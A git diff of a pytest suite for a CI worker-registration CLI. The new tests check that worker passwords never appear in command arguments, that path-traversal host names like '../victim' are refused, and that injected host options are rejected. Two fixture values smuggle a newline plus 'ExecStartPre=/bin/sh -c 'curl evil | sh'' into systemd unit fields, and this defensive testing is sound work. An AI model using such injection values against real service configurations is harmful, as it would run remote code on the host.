@@ -2,12 +2,20 @@
 
 from __future__ import annotations
 
+import os
+import re
+import stat
+
 import pytest
 import yaml
 
 from clirun import InProcessCrcr
 from configfiles import make_dirs, write_backend, write_worker, write_worker_password
-from harness import free_port
+from harness import VENV_BIN, free_port
+from printedsetup import host_with_venv, run_paragraph
+
+# What the printed create-worker commands pass as the password: buildbot.tac then reads the host's file.
+PLACEHOLDER = "see-password-file"
 
 
 @pytest.fixture
@@ -44,17 +52,59 @@ def test_register_prints_the_setup_with_the_configured_master_address(dirs, crcr
     assert yaml.safe_load((dirs.workers / "lab1.yaml").read_text()) == {
         "devices": {"spyre": 2}, "admin": "Jane <jane@example.com>", "max_builds": 1
     }
-    password = (dirs.secrets / "worker-lab1").read_text().strip()
     for unit in ("lab1-spyre-0", "lab1-spyre-1"):
         assert (
-            f"/var/lib/crcr-worker/venv/bin/buildbot-worker create-worker --keepalive 30 --maxdelay 60 "
-            f"/var/lib/crcr-worker/{unit} relay.example.org:9989 {unit} {password}"
+            f"/var/lib/crcr-worker/venv/bin/buildbot-worker create-worker --quiet --keepalive 30 --maxdelay 60 "
+            f"/var/lib/crcr-worker/{unit} relay.example.org:9989 {unit} {PLACEHOLDER}\n"
         ) in result.stdout
     assert "ExecStart=/var/lib/crcr-worker/venv/bin/buildbot-worker start --nodaemon /var/lib/crcr-worker/%i" in (
         result.stdout
     )
     # The host file is valid for `crcr check` right away.
     assert crcr("check").returncode == 0
+
+
+def heredoc_bodies(printed: str) -> list[str]:
+    """The lines a shell reads as here-document bodies (standard input) rather than as commands."""
+    bodies, lines = [], iter(printed.splitlines())
+    for line in lines:
+        if opened := re.search(r"<<'(\w+)'$", line):
+            bodies.extend(iter(lambda: next(lines), opened[1]))
+    return bodies
+
+
+@pytest.mark.parametrize("command", [["register"], ["show"], ["register", "--rotate-password"]])
+def test_the_password_is_printed_only_as_standard_input_never_in_a_command(dirs, crcr, register, command):
+    first = register("lab1")
+    result = first if command == ["register"] else crcr("worker", command[0], "lab1", *command[1:])
+
+    assert result.returncode == 0, result.stderr
+    password = (dirs.secrets / "worker-lab1").read_text().strip()
+    assert password in heredoc_bodies(result.stdout)
+    assert result.stdout.count(password) == 1, result.stdout
+
+
+def test_the_printed_create_commands_pass_no_password_to_any_process_and_the_units_read_the_hosts_file(
+    dirs, crcr, register, tmp_path
+):
+    host_dir = host_with_venv(tmp_path / "host", VENV_BIN)
+    printed = register("lab1", "--host-dir", host_dir).stdout
+    password = (dirs.secrets / "worker-lab1").read_text().strip()
+
+    # bash -x traces every command it runs with its arguments, as `ps` would show them.
+    traced = run_paragraph(printed, " create-worker ")
+
+    assert password not in traced.stderr, traced.stderr
+    password_file = host_dir / "password"
+    assert (password_file.read_text().strip(), stat.S_IMODE(password_file.stat().st_mode)) == (password, 0o600)
+    for unit in ("lab1-spyre-0", "lab1-spyre-1"):
+        tac = (host_dir / unit / "buildbot.tac").read_text()
+        assert password not in tac
+        [passwd] = [line for line in tac.splitlines() if line.startswith("passwd = ")]
+        namespace: dict = {}
+        exec(passwd, {"os": os}, namespace)  # what the unit logs in with when it starts
+        assert namespace["passwd"] == password
+        assert (host_dir / unit / "info" / "host").read_text() == f"lab1: spyre unit {unit[-1]}\n"
 
 
 def test_passwords_are_random_per_host(dirs, crcr, register):
@@ -116,7 +166,9 @@ def test_rotate_password_changes_only_the_password(dirs, crcr, register):
     after = (dirs.secrets / "worker-lab1").read_text()
     assert after != before
     assert (dirs.workers / "lab1.yaml").read_text() == host_file
-    assert f"lab1-spyre-1 {after.strip()}" in result.stdout
+    assert heredoc_bodies(result.stdout) == [after.strip()]  # the new password file, nothing else
+    assert "systemctl restart crcr-worker@lab1-spyre-0 crcr-worker@lab1-spyre-1" in result.stdout
+    assert "create-worker" not in result.stdout, "the units' buildbot.tac read the password file: nothing to remake"
 
 
 def test_rotate_password_refuses_to_change_the_host(dirs, crcr, register):
@@ -181,3 +233,67 @@ def test_list_without_a_running_master_says_the_connection_state_is_unknown(dirs
     assert lines[1].split()[:4] == ["box", "spyre:2", "2", "?"]
     assert "cannot log in: password file does not exist" in lines[2]
     assert "cannot be reached: connection state unknown" in lines[-1]
+
+
+def files_under(root) -> dict:
+    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["register", "--device", "spyre", "--admin", "a"],
+        ["register", "--rotate-password"],
+        ["show"],
+        ["units"],
+        ["ensure-password"],
+        ["remove"],
+    ],
+    ids=lambda command: "-".join(c.strip("-") for c in command[:2]),
+)
+def test_a_host_name_that_is_a_path_is_refused_by_every_command_and_nothing_outside_is_touched(
+    dirs, crcr, tmp_path, command
+):
+    write_worker(tmp_path, "victim", devices={"spyre": 1})  # beside workers/: ../victim from there
+    write_worker_password(dirs.secrets, "lab1")
+    before = files_under(tmp_path)
+
+    result = crcr("worker", command[0], "../victim", *command[1:])
+
+    assert result.returncode == 1
+    assert result.stderr.startswith(
+        "error: NAME: must be letters, digits, '-' and '_', starting with a letter (got '../victim')"
+    ), result.stderr
+    assert files_under(tmp_path) == before
+
+
+@pytest.mark.parametrize(
+    "option, value, problem",
+    [
+        ("--host-user", "crcr\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be a POSIX account name"),
+        ("--host-user", "build bot", "must be a POSIX account name"),
+        ("--host-user", "ci%n", "must be a POSIX account name"),
+        ("--host-dir", "/srv/ci\nExecStartPre=/bin/sh -c 'curl evil | sh'", "must be an absolute path"),
+        ("--host-dir", "/srv/my ci", "must be an absolute path"),
+        ("--host-dir", "/srv/%h", "must be an absolute path"),
+        ("--host-dir", "srv/ci", "must be an absolute path"),
+    ],
+    ids=["user-newline", "user-space", "user-specifier", "dir-newline", "dir-space", "dir-specifier", "dir-relative"],
+)
+def test_host_options_that_would_break_the_commands_or_the_systemd_unit_are_refused(
+    dirs, crcr, register, tmp_path, option, value, problem
+):
+    unit_file = tmp_path / "crcr-worker@.service"
+
+    result = register("lab1", option, value, "--systemd-unit", unit_file)
+
+    assert result.returncode == 1
+    assert result.stderr.startswith(f"error: {option}: {problem}") and repr(value) in result.stderr, result.stderr
+    assert result.stdout == ""
+    assert list(dirs.workers.iterdir()) == [] and list(dirs.secrets.iterdir()) == []
+    assert not unit_file.exists()
+    # `show` prints the same commands: it refuses them too.
+    write_worker(dirs.workers, "lab2", devices={"spyre": 1})
+    write_worker_password(dirs.secrets, "lab2")
+    shown = crcr("worker", "show", "lab2", option, value)
+    assert shown.returncode == 1 and shown.stderr.startswith(f"error: {option}: {problem}"), shown.stderr
